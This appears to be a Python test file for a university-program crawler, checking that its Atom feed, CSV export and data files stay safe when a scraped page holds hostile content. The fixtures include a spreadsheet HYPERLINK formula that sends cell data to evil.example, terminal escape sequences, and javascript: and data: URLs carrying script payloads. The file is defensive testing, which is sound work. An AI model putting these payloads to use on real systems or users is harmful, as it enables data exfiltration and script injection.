"""Outputs safe for their readers (issue 21; research/redteam.md F17, F18, F20).

Two real nights of Arizona's recorded pages, the second with a hostile program heading: a
spreadsheet formula, a terminal escape sequence, BEL and \\x01 (as HTML character references,
which the page's parser turns into the characters). The rules accept the new name, so it is
published. Then: changes.atom is well-formed XML for a strict parser and never links anything
but http(s); the CSV export has no cell a spreadsheet would run; and the files written beside
programs.db keep its mode and group after a publish under umask 077.
"""

from __future__ import annotations

import csv
import grp
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree as ET

import feedparser
import pytest

from crawler.publish.feed import ATOM, SYNC, write_feed
from tests.conftest import QUIET, ROOT
from tests.support.sitecopy import copy_data, copy_snapshot, edit, night

SPIDER = "arizona"
CATALOG_FILE = "grad.arizona.edu/catalog/programinfo/LISMA"
HOSTILE_H1 = '<h1>=HYPERLINK("http://evil.example/?d="&amp;A1) Library &#x1b;[31m&#x7;&#x1; Science (MA)</h1>'
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1) Library \x1b[31m\x07\x01 Science (MA)'
CLI = Path(sys.executable).parent / "mlis-crawler"
COMPANIONS = ("changes.atom", "programs.metadata.json")


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    folder = tmp / "data"
    assert night(folder, copy_snapshot(QUIET, tmp / "sites", QUIET), [SPIDER]).health == {SPIDER: "ok"}
    snapshot = copy_snapshot(QUIET, tmp / "sites", "2026-11-03")
    edit(snapshot, CATALOG_FILE, "<h1>Library &amp; Information Science (MA)</h1>", HOSTILE_H1)
    assert night(folder, snapshot, [SPIDER]).health == {SPIDER: "ok"}
    conn = sqlite3.connect(f"file:{folder / 'programs.db'}?mode=ro", uri=True)
    try:  # the hostile name is published (else nothing below would be tested)
        assert conn.execute("SELECT count(*) FROM changes WHERE field = 'name' AND new_text = ?",
                            [HOSTILE_NAME]).fetchone()[0] == 9
    finally:
        conn.close()
    return folder


def test_the_feed_is_well_formed_xml_whatever_a_page_holds(data):
    body = (data / "changes.atom").read_bytes()
    root = ET.fromstring(body)  # expat: a control character anywhere is a parse error
    assert not feedparser.parse(body).bozo
    titles = [e.findtext(f"{{{ATOM}}}title") for e in root.findall(f"{{{ATOM}}}entry")]
    name = next(t for t in titles if "Name changed" in t)
    assert "⟨U+001B⟩[31m⟨U+0007⟩⟨U+0001⟩" in name and "\x1b" not in name
    # a mirror still gets the exact value: escaped inside its JSON
    exact = {json.loads(c.text).get("text") for c in root.iter(f"{{{SYNC}}}change") if c.get("field") == "name"}
    assert exact == {HOSTILE_NAME}


def test_the_feed_links_only_http_urls(data, tmp_path):
    """Whatever URL the file holds (a feed from elsewhere may name any), no entry links a
    `javascript:` or `data:` URL: such an entry has no link (the report's rule, safe_url)."""
    folder = tmp_path / "copy"
    folder.mkdir()
    shutil.copy(data / "programs.db", folder / "programs.db")
    conn = sqlite3.connect(folder / "programs.db")
    with conn:
        conn.execute("UPDATE changes SET source_url = 'javascript:alert(document.domain)//' WHERE field = 'name'")
        conn.execute("UPDATE programs SET url = 'data:text/html,<script>alert(1)</script>'")
    conn.close()
    root = ET.fromstring(write_feed(folder / "programs.db").read_bytes())
    hrefs = [link.get("href") for link in root.iter(f"{{{ATOM}}}link")]
    assert hrefs and all(h.startswith(("https://", "http://")) for h in hrefs)
    name = next(e for e in root.findall(f"{{{ATOM}}}entry") if "Name changed" in e.findtext(f"{{{ATOM}}}title"))
    assert name.find(f"{{{ATOM}}}link") is None


def test_csv_cells_never_start_a_formula(data, tmp_path):
    run = subprocess.run([str(CLI), "export", "--data", str(data), "--format", "csv", "--out", str(tmp_path / "csv")],
                         capture_output=True, text=True, cwd=ROOT)
    assert run.returncode == 0, run.stderr
    risky = ("=", "+", "-", "@", "\t", "\r")
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                assert not [cell for cell in row if cell.startswith(risky)], path.name
    with (tmp_path / "csv" / "programs.csv").open(newline="", encoding="utf-8") as f:
        names = {r["program_id"]: r["name"] for r in csv.DictReader(f)}
    assert names["arizona/ma-lis"] == "'" + HOSTILE_NAME  # shown as text, nothing lost
    with (tmp_path / "csv" / "tuition_rates.csv").open(newline="", encoding="utf-8") as f:
        assert next(csv.DictReader(f))["amount_cents"].isdigit()  # numbers untouched
    run = subprocess.run([str(CLI), "export", "--data", str(data), "--format", "json", "--out", str(tmp_path / "json")],
                         capture_output=True, text=True, cwd=ROOT)
    programs = json.loads((tmp_path / "json" / "programs.json").read_text(encoding="utf-8"))
    assert {p["name"] for p in programs if p["program_id"] == "arizona/ma-lis"} == {HOSTILE_NAME}  # JSON: exact


def _another_group() -> int | None:
    """A group this process may give a file that is not its own: any group as root, else one of
    its supplementary groups."""
    mine = os.getegid()
    if os.geteuid() == 0:
        return next((g.gr_gid for g in grp.getgrall() if g.gr_gid != mine), None)
    return next((g for g in os.getgroups() if g != mine), None)


def test_files_beside_programs_db_keep_its_mode_and_group(data, tmp_path):
    folder = copy_data(data, tmp_path / "data")
    group = _another_group()
    for name in ("programs.db", *COMPANIONS):
        os.chmod(folder / name, 0o640)
        if group is not None:
            os.chown(folder / name, -1, group)
    before = {name: (folder / name).stat().st_ino for name in ("programs.db", *COMPANIONS)}
    run = subprocess.run([str(CLI), "publish", "--data", str(folder)], capture_output=True, text=True, cwd=ROOT,
                         preexec_fn=lambda: os.umask(0o077))
    assert run.returncode == 0, run.stderr
    for name in ("programs.db", *COMPANIONS):
        st = (folder / name).stat()
        assert st.st_ino != before[name], f"{name} was not rewritten: the test would prove nothing"
        assert stat.S_IMODE(st.st_mode) == 0o640, name
        if group is not None:
            assert st.st_gid == group, name
